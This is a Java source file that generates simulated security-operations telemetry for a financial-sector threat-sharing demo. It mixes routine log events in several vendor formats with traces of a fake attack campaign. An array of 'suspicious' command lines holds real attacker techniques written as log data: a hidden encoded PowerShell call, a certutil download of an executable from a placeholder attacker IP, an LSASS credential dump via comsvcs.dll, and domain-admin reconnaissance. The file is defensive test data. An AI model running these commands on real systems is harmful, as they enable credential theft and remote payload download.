package org.finres.demo;

import java.time.Instant;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.random.RandomGenerator;

/**
 * Generates what a member's SOC would forward: mostly routine telemetry from workstations, servers and
 * firewalls, in the formats real products emit (Windows event JSON, CEF, LEEF, RFC 5424 syslog, ECS, OCSF), and
 * now and then the traces of a campaign that hits several institutions from the same addresses, which is what the
 * hub exists to see.
 */
final class SocTraffic {

    /** Addresses and names the simulated campaign uses across institutions. */
    static final String CAMPAIGN_IP = "203.0.113.66";
    static final String CAMPAIGN_DOMAIN = "update-check.example-cdn.net";
    private static final String[] BENIGN_COMMANDS = {
            "C:\\\\Windows\\\\System32\\\\svchost.exe -k netsvcs -p", "C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\EXCEL.EXE",
            "C:\\\\Windows\\\\explorer.exe", "C:\\\\Windows\\\\System32\\\\taskhostw.exe", "\\\"C:\\\\Program Files\\\\CoreBank\\\\teller.exe\\\" /branch 012"};
    private static final String[] SUSPICIOUS_COMMANDS = {
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "certutil.exe -urlcache -split -f http://" + CAMPAIGN_IP + "/a.exe C:\\\\Users\\\\Public\\\\a.exe",
            "rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\Temp\\\\lsass.dmp full",
            "cmd.exe /c whoami /priv & net group \\\"domain admins\\\" /domain"};
    // LEEF's devTime carries no zone; the hub reads such times as Taiwan's, as a Taiwanese appliance writes them.
    private static final DateTimeFormatter LEEF_TIME = DateTimeFormatter.ofPattern("MMM dd yyyy HH:mm:ss", Locale.ENGLISH)
            .withZone(java.time.ZoneId.of("Asia/Taipei"));

    private final String prefix;
    private final RandomGenerator random;
    private long sequence;

    SocTraffic(String prefix, RandomGenerator random) {
        this.prefix = prefix;
        this.random = random;
    }

    /** One forwarder's batch, one event per line, in mixed formats. */
    List<String> batch(Instant now, int size, boolean campaignActive) {
        List<String> lines = new ArrayList<>(size);
        for (int i = 0; i < size; i++) {
            Instant time = now.minusMillis(random.nextInt(3_000));
            boolean attack = campaignActive && random.nextInt(8) == 0;
            lines.add(switch (random.nextInt(6)) {
                case 0 -> windowsProcess(time, attack);
                case 1 -> firewallCef(time, attack);
                case 2 -> loginLeef(time, attack);
                case 3 -> sshSyslog(time, attack);
                case 4 -> dnsEcs(time, attack);
                default -> attack ? edrFinding(time) : windowsLogon(time);
            });
        }
        return lines;
    }

    private String host(String role) {
        return prefix + "-" + role + "-" + String.format("%02d", 1 + random.nextInt(20));
    }

    private String internalIp() {
        return "10." + (10 + random.nextInt(20)) + "." + random.nextInt(255) + "." + (1 + random.nextInt(254));
    }

    private String windowsProcess(Instant time, boolean attack) {
        String command = attack ? SUSPICIOUS_COMMANDS[random.nextInt(SUSPICIOUS_COMMANDS.length)]
                : BENIGN_COMMANDS[random.nextInt(BENIGN_COMMANDS.length)];
        String image = attack ? (command.startsWith("powershell") ? "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe"
                : command.startsWith("certutil") ? "C:\\\\Windows\\\\System32\\\\certutil.exe"
                : command.startsWith("rundll32") ? "C:\\\\Windows\\\\System32\\\\rundll32.exe" : "C:\\\\Windows\\\\System32\\\\cmd.exe")
                : "C:\\\\Windows\\\\System32\\\\svchost.exe";
        return "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},\"EventID\":1,"
                + "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"" + host("ws") + "\","
                + "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"" + time + "\"}},\"EventRecordID\":" + (++sequence) + "},"
                + "\"EventData\":{\"Image\":\"" + image + "\",\"CommandLine\":\"" + command + "\","
                + "\"User\":\"BANK\\\\teller" + random.nextInt(40) + "\",\"ProcessId\":\"" + (1000 + random.nextInt(9000)) + "\","
                + "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\"}}}";
    }

    private String windowsLogon(Instant time) {
        return "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Security-Auditing\"}},"
                + "\"EventID\":4624,\"Channel\":\"Security\",\"Computer\":\"" + host("dc") + "\","
                + "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"" + time + "\"}},\"EventRecordID\":" + (++sequence) + "},"
                + "\"EventData\":{\"TargetUserName\":\"teller" + random.nextInt(40) + "\",\"TargetDomainName\":\"BANK\","
                + "\"LogonType\":\"3\",\"IpAddress\":\"" + internalIp() + "\",\"WorkstationName\":\"" + host("ws") + "\"}}}";
    }

    private String firewallCef(Instant time, boolean attack) {
        String src = attack ? CAMPAIGN_IP : "198.51.100." + (1 + random.nextInt(250));
        int severity = attack ? 8 : 3 + random.nextInt(3);
        return "CEF:0|Fortinet|FortiGate|7.2.5|0000000013|traffic denied|" + severity + "|rt=" + time.toEpochMilli()
                + " src=" + src + " spt=" + (1024 + random.nextInt(60000)) + " dst=" + internalIp() + " dpt="
                + (attack ? 3389 : 443) + " proto=6 act=deny deviceExternalId=" + prefix + "-fw01 msg=denied by policy 12";
    }

    private String loginLeef(Instant time, boolean attack) {
        String src = attack ? CAMPAIGN_IP : internalIp();
        return "LEEF:2.0|IBM|Security Verify|10.0|LoginFailure|^|devTime=" + LEEF_TIME.format(time)
                + "^devTimeFormat=MMM dd yyyy HH:mm:ss^src=" + src + "^usrName=" + (attack ? "admin" : "teller" + random.nextInt(40))
                + "^sev=" + (attack ? 7 : 3) + "^cat=Authentication^reason=bad password";
    }

    private String sshSyslog(Instant time, boolean attack) {
        String src = attack ? CAMPAIGN_IP : internalIp();
        return "<38>1 " + time + " " + host("core") + " sshd " + (2000 + random.nextInt(8000)) + " - - Failed password for "
                + (attack ? "root" : "ops") + " from " + src + " port " + (1024 + random.nextInt(60000)) + " ssh2";
    }

    private String dnsEcs(Instant time, boolean attack) {
        String name = attack ? CAMPAIGN_DOMAIN : new String[] {"www.fsc.gov.tw", "login.microsoftonline.com",
                "api.twse.com.tw", "ocsp.digicert.com"}[random.nextInt(4)];
        return "{\"@timestamp\":\"" + time + "\",\"event\":{\"kind\":\"event\",\"category\":[\"network\"],\"type\":[\"protocol\"],"
                + "\"dataset\":\"dns\"},\"source\":{\"ip\":\"" + internalIp() + "\"},\"destination\":{\"ip\":\"10.0.0.53\",\"port\":53},"
                + "\"dns\":{\"type\":\"query\",\"question\":{\"name\":\"" + name + "\",\"type\":\"A\"}},"
                + "\"host\":{\"name\":\"" + host("ws") + "\"},\"network\":{\"protocol\":\"dns\",\"transport\":\"udp\"}}";
    }

    private String edrFinding(Instant time) {
        return "{\"class_uid\":2004,\"category_uid\":2,\"activity_id\":1,\"type_uid\":200401,\"severity_id\":5,"
                + "\"time\":" + time.toEpochMilli() + ",\"message\":\"Credential dumping via comsvcs.dll MiniDump\","
                + "\"metadata\":{\"product\":{\"name\":\"Endpoint Defense\",\"vendor_name\":\"Acme\"},\"version\":\"1.9.0\","
                + "\"uid\":\"" + prefix + "-edr-" + (++sequence) + "\"},"
                + "\"finding_info\":{\"uid\":\"" + prefix + "-f-" + sequence + "\",\"title\":\"LSASS memory dump\","
                + "\"analytic\":{\"name\":\"lsass-minidump\",\"type_id\":1}},"
                + "\"device\":{\"hostname\":\"" + host("ws") + "\",\"type_id\":2},"
                + "\"observables\":[{\"name\":\"src_endpoint.ip\",\"type_id\":2,\"value\":\"" + CAMPAIGN_IP + "\"}]}";
    }
}
